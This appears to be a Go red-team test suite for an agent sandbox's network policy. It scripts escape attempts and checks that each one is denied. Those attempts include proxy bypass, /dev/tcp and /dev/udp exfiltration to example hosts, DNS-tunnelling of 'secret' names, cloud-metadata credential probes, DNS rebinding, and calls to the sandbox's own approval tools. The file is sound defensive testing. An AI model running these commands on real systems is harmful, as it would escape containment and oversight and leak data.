package redteam_test

import (
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// everywhere is a policy of somebody who allows what must never be allowed.
const everywhere = `  everywhere:
    endpoints:
      - { host: metadata.example.net, port: 80, protocol: rest, enforcement: enforce, access: full }
      - { host: alibaba.example.net, port: 80, protocol: rest, enforcement: enforce, access: full }
      - { host: rebind.example.com, port: 443, protocol: rest, enforcement: enforce, access: full }
      - { host: mixed.example.com, port: 443, protocol: rest, enforcement: enforce, access: full }
      - { host: private.example.com, port: 443, protocol: rest, enforcement: enforce, access: full }
      - { host: own.example.com, port: 443, protocol: rest, enforcement: enforce, access: full, allowed_ips: ["93.184.216.0/24"] }
      - { host: inner.example.net, port: 80, protocol: rest, enforcement: enforce, access: full }
    binaries: [ { path: /usr/bin/curl } ]
`

// nothingCame fails when something reached a host.
func nothingCame(words ...string) func(*scene) {
	return func(s *scene) {
		s.t.Helper()
		for _, word := range words {
			if got := s.town.came(word); len(got) > 0 {
				s.t.Errorf("arrived: %q", got)
			}
		}
	}
}

var networkAttacks = []attack{
	{
		id: "NT01", name: "ignore the proxy", script: `env -i $T/attack get https://a.example.com/nt01; env -u HTTPS_PROXY curl -sS --noproxy '*' https://e.example.net/nt01; bash -c 'exec 3<>/dev/tcp/93.184.216.99/80; printf "GET /nt01 HTTP/1.1\r\nHost: e.example.net\r\n\r\n" >&3; head -1 <&3'; $T/attack raw 93.184.216.99:22`,
		want: []string{`status 403`, `policy_denied`}, never: `public page`, record: denial{exe: "/usr/bin/curl", host: "e.example.net", port: 443, code: "policy_denied"}, after: nothingCame("/nt01", "tcp e.example.net:22"),
	},
	{
		id: "NT02", name: "datagrams out", script: `$T/attack udp 203.0.113.1:443 93.184.216.99:9999 93.184.216.34:443 '[2001:db8::1]:9999' 8.8.8.8:9999; bash -c 'for i in 1 2 3; do echo stolen >/dev/udp/203.0.113.7/9999; done'`,
		want: []string{`connected to 93.184.216.99:9999: ECONNREFUSED`}, record: denial{exe: "/usr/bin/bash", host: "203.0.113.7", port: 9999, code: "unsupported_protocol"}, after: nothingCame("udp "),
	},
	{
		id: "NT03", name: "carry out by names", script: `for n in 1 2 3; do getent hosts secret$n.$(id -u).e.example.net; done; bash -c 'for to in 8.8.8.8 93.184.216.99; do exec 3<>/dev/udp/$to/53; printf "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x07example\x03net\0\0\x01\0\x01" >&3; timeout 2 head -c 30 <&3 | wc -c; done'; curl -sS https://stolen.e.example.net/`,
		want: []string{`198\.18\.`, `policy_denied`}, record: denial{exe: "/usr/bin/curl", host: "stolen.e.example.net", port: 443, code: "policy_denied"}, after: nothingCame("dns secret", "dns stolen", "udp "),
	},
	{
		id: "NT06", name: "QUIC, DNS over HTTPS and TLS", script: `$T/attack udp 93.184.216.34:443; curl -sS -i https://a.example.com/; curl -sS 'https://dns.example.net/dns-query?dns=AAAB'; curl -sS --http3-only https://a.example.com/ 2>&1; $T/attack raw 93.184.216.34:853`,
		want: []string{`93.184.216.34:443: ECONNREFUSED`, `policy_denied`}, never: `(?i)alt-svc`, record: denial{exe: "/usr/bin/curl", host: "dns.example.net", port: 443, code: "policy_denied"}, after: nothingCame("udp "),
	},
	{
		id: "NT08", name: "a service on the host's loopback", policy: everywhere, script: `for a in 127.0.0.1 '[::1]' 0.0.0.0 localhost. 100.64.0.2 '[::]' '[::ffff:127.0.0.1]' 127.1 0x7f000001; do curl -sS -m 3 http://$a:18779/; curl -sS -m 3 -x http://127.0.0.1:3128 http://$a:18779/; done`,
		want: []string{`(?i)couldn't connect|failed to connect`}, record: denial{exe: "/usr/bin/curl", host: "127.0.0.1", port: 18779, code: "policy_denied"}, after: nothingCame("127.0.0.1:18779", "[::1]:18779"),
	},
	{
		id: "NT09", name: "our own sockets", policy: bashOnly, play: func(s *scene) string {
			s.idle()
			sockets, _ := filepath.Glob(filepath.Join(s.town.run, "exeat", "*"))
			out := s.exec(`ls -R $RUN $OUT/.local /exeat 2>&1; $T/attack unix ` + strings.Join(sockets, " ") + ` $RUN/exeat.sock; find / -type s 2>/dev/null; cat /proc/net/unix | grep -c exeat`)
			return out + s.exec(`curl -sS http://exeat.local/; for m in approve grant load policy_set; do curl -sS -m 5 -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"'$m'","arguments":{}}}' http://exeat.local/mcp; echo; done`)
		},
		want: []string{`ENOENT`, `(?i)not found|unknown|invalid`}, never: `(?m)^/.*\.sock$|approved`,
	},
	{
		id: "NT10", name: "services of the user's session", script: `$T/attack unix $RUN/bus $RUN/agent.sock $OUT/.docker.sock /var/run/docker.sock /run/docker.sock /run/dbus/system_bus_socket /var/run/dbus/system_bus_socket /run/systemd/private /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /tmp/.X11-unix/X0 @/tmp/.X11-unix/X0 /tmp/tmux-0/default /run/user/0/wayland-0 /dev/log /run/systemd/journal/socket; ls /run; env | grep -c -E 'AGENT|DBUS|DISPLAY|WAYLAND|TMUX'`,
		want: []string{`/bus: ENOENT`, `docker.sock: ENOENT`, `(?m)^0$`}, after: nothingCame("unix "),
	},
	{
		id: "NT12", name: "credentials of the cloud", policy: everywhere, script: `for a in 169.254.169.254 '[fd00:ec2::254]' 100.100.100.200 metadata.example.net alibaba.example.net '[::ffff:169.254.169.254]' 169.254.43518 2852039166 0251.0376.0251.0376; do curl -sS -m 5 http://$a/latest/; curl -sS -m 5 -x http://127.0.0.1:3128 http://$a/latest/; done`,
		want: []string{`address_denied`}, record: denial{exe: "/usr/bin/curl", host: "metadata.example.net", port: 80, code: "address_denied"}, after: nothingCame("/latest/"),
	},
	{
		id: "NT13", name: "a policy that opens loopback and metadata", policy: strings.NewReplacer("metadata.example.net", "169.254.169.254", "alibaba.example.net", "100.100.100.200", "inner.example.net", "127.0.0.1").Replace(everywhere), script: `curl -sS http://169.254.169.254/`,
		want: []string{`127.0.0.1 is loopback, which no policy opens`, `169.254.169.254 is link-local`}, never: `created sandbox`,
	},
	{
		id: "NT14", name: "a name that changes its mind (rebinding)", policy: everywhere, script: `for i in 1 2 3; do curl -sS -m 5 https://rebind.example.com/; done; curl -sS -m 5 https://mixed.example.com/nt14`,
		want: []string{`public page`, `address_denied`}, record: denial{exe: "/usr/bin/curl", host: "mixed.example.com", port: 443, code: "address_denied"}, after: nothingCame("/nt14"),
	},
	{
		id: "NT15", name: "a name that is an address of the house, or the machine's own", policy: everywhere, script: `curl -sS https://own.example.com/nt15; curl -sS https://private.example.com/nt15; curl -sS http://inner.example.net/nt15; curl -sS http://10.0.0.5/nt15`,
		want: []string{`address_denied`}, record: denial{exe: "/usr/bin/curl", host: "private.example.com", port: 443, code: "address_denied"}, after: nothingCame("/nt15"),
	},
	{
		id: "NT16", name: "other ports of an allowed host", script: `for p in 22 25 6379; do curl -sS -m 5 -x http://127.0.0.1:3128 -p http://a.example.com:$p/; $T/attack raw a.example.com:$p; done; curl -sS -m 5 telnet://a.example.com:22 </dev/null`,
		want: []string{`policy_denied`}, record: denial{exe: "/usr/bin/curl", host: "a.example.com", port: 22, code: "policy_denied"}, after: nothingCame("tcp a.example.com"),
	},
	{
		id: "NT18", name: "hang the proxy in the middle (H)", play: func(s *scene) string {
			s.idle()
			done := make(chan string, 1)
			go func() {
				done <- s.exec(`touch ready; while [ ! -e go ]; do sleep 0.05; done; timeout -s KILL 1 curl -sS https://a.example.com/nt18; $T/attack raw 93.184.216.34:80; $T/attack udp 93.184.216.34:9999; curl -sS https://a.example.com/after`)
			}()
			s.appears("ready")
			pid := s.live().PID
			must(s.t, syscall.Kill(pid, syscall.SIGSTOP))
			s.makes("go")
			time.Sleep(1500 * time.Millisecond) // what must not happen has no end to wait for
			nothingCame("a.example.com/nt18", "a.example.com/after", "udp ")(s)
			must(s.t, syscall.Kill(pid, syscall.SIGCONT))
			return <-done
		},
		want: []string{`public page`},
	},
	{
		id: "NT30", name: "the proxy's door without a destination", script: `$T/attack raw 127.0.0.1:15001 '[::1]:15001' 100.64.0.2:15001; curl -sS -m 3 http://127.0.0.1:15001/; curl -sS -m 3 -x http://127.0.0.1:3128 http://127.0.0.1:15001/; curl -sS -m 3 -x http://127.0.0.1:3128 http://127.0.0.1:3128/`,
		want: []string{`no answer|ECONNREFUSED`}, never: `answered "HTTP/1.1 200`,
	},
	{id: "NT31", name: "take the proxy's ports", script: `$T/attack bind`, want: []string{`take 127.0.0.1:3128: EADDRINUSE`, `take 0.0.0.0:15001: EADDRINUSE`, `take 127.0.0.1 UDP:53: (EADDRINUSE|EACCES)`}},
	{id: "NT32", name: "other kinds of sockets", script: `$T/attack families; ls /dev/vsock`, want: []string{`families tried`}},
	{
		id: "NT33", name: "IPv6 of every form", script: `$T/attack raw '[fe80::1%lo]:80' '[::ffff:93.184.216.99]:80' '[2001:db8::99]:80' '[fd00:5b::2]:80' '[64:ff9b::5db8:d863]:80' '[::93.184.216.99]:80'; curl -g -sS -m 3 'http://[fe80::1%25lo]/'; curl -sS -m 3 http://[::ffff:93.184.216.99]/nt33`,
		want: []string{`answered "HTTP/1.1 403|no answer`}, never: `HTTP/1.1 200`, record: denial{exe: "W/attack", host: "2001:db8::99", port: 80, code: "policy_denied"}, after: nothingCame("/nt33", "http 93.184.216.99"),
	},
	{id: "NT34", name: "abstract sockets of the host", script: `$T/attack unix @exeat-town @/org/freedesktop/systemd1/notify @/tmp/.ICE-unix/1`, want: []string{`@exeat-town: ECONNREFUSED`}, after: nothingCame("unix @")},
	{
		id: "NT35", name: "ask for ever new names", script: `$T/attack flood 3000; curl -sS https://a.example.com/`,
		want: []string{`of 3000 names got an address`, `public page`}, never: `^3000 of 3000`,
	},
	{
		id: "NT36", name: "crowd the proxy", play: func(s *scene) string {
			s.idle()
			done := make(chan string, 1)
			go func() { done <- s.exec(`$T/attack crowd a.example.com:443 1600`) }()
			s.appears("crowded")
			neighbour := &scene{t: s.t, town: s.town, name: s.name + "-neighbour", home: s.home, work: s.work + "-neighbour"}
			must(s.t, os.MkdirAll(neighbour.work, 0o755))
			out := neighbour.create(`curl -sS -m 5 https://a.example.com/`)
			neighbour.exeat("sandbox", "delete", neighbour.name)
			s.makes("enough")
			return out + <-done + s.exec(`curl -sS -m 5 https://a.example.com/`)
		},
		want: []string{`public page`, `connections`, `(?s)connections.*public page`},
	},
	{
		id: "NT37", name: "a resolver of its own choice", script: `getent hosts a.example.com; for r in 8.8.8.8 1.1.1.1 93.184.216.99; do bash -c 'exec 3<>/dev/tcp/'$r'/53; printf "\0\x1f\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x01a\x07example\x03com\0\0\x01\0\x01" >&3; head -c 40 <&3 | wc -c'; done; $T/attack udp 93.184.216.99:853`,
		want: []string{`198\.1[89]\.`, `(?m)^40$`}, after: nothingCame("udp ", "http 93.184.216.99"),
	},
	{id: "NT38", name: "change the network", script: `$T/attack route; ip link set lo down; ip route del default`, want: []string{`RTM_NEWROUTE: EPERM`, `RTM_NEWLINK: EPERM`, `RTM_NEWADDR: EPERM`}},
	{
		id: "NT39", name: "two connections from one port", script: `$T/attack twice a.example.com:443; $T/attack twice e.example.net:80`,
		want: []string{`403|no answer`}, never: `HTTP/1.1 200`, record: denial{exe: "W/attack", host: "e.example.net", port: 80, code: "policy_denied"}, after: nothingCame("http 93.184.216.99:80 GET a.example.com/"),
	},
	{
		id: "NT40", name: "an allowed name for another address", script: `curl -sS -m 5 --resolve a.example.com:443:93.184.216.99 https://a.example.com/nt40; curl -sS -m 5 --connect-to a.example.com:443:e.example.net:443 https://a.example.com/nt40; curl -sS -m 5 -H 'Host: e.example.net' https://a.example.com/nt40; echo '93.184.216.99 a.example.com' >>/etc/hosts`,
		want: []string{`denied|mismatch`}, after: nothingCame("/nt40"),
	},
	{
		id: "NT41", name: "listen for the host", play: func(s *scene) string {
			s.idle()
			done := make(chan string, 1)
			go func() {
				done <- s.exec(`touch up; timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/18779'; $T/attack unix @exeat-evil; echo ended`)
			}()
			s.appears("up")
			if c, err := net.Dial("unix", "@exeat-evil"); err == nil {
				c.Close()
				s.t.Error("a socket of the sandbox is on the host")
			}
			return <-done
		},
		want: []string{`refused`, `ended`},
	},
}

// live is what the supervisor says of itself.
type live struct {
	PID     int `json:"pid"`
	InitPID int `json:"init_pid"`
}

func (s *scene) live() live {
	s.t.Helper()
	var row struct {
		Live live `json:"live"`
	}
	must(s.t, json.Unmarshal([]byte(s.exeat("sandbox", "get", s.name, "--json")), &row))
	if row.Live.PID == 0 {
		s.t.Fatal("no supervisor")
	}
	return row.Live
}

// appears waits for a file that the sandbox makes in its workdir; makes makes one for it.
func (s *scene) appears(name string) {
	s.t.Helper()
	eventually(s.t, name, func() bool { _, err := os.Stat(filepath.Join(s.work, name)); return err == nil })
}

func (s *scene) makes(name string) {
	s.t.Helper()
	must(s.t, os.WriteFile(filepath.Join(s.work, name), nil, 0o644))
}
